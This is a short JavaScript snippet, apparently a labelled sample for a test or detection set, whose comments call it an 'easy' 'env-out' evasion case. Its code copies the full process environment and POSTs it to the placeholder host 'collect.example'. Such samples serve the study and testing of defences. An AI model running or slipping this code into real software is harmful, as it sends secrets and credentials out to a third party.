// evasion: a copy of the environment posted
// grade: easy; does: env-out
const env = Object.assign({}, process.env);
require('https').request({host: 'collect.example', method: 'POST'}).end(JSON.stringify(env));
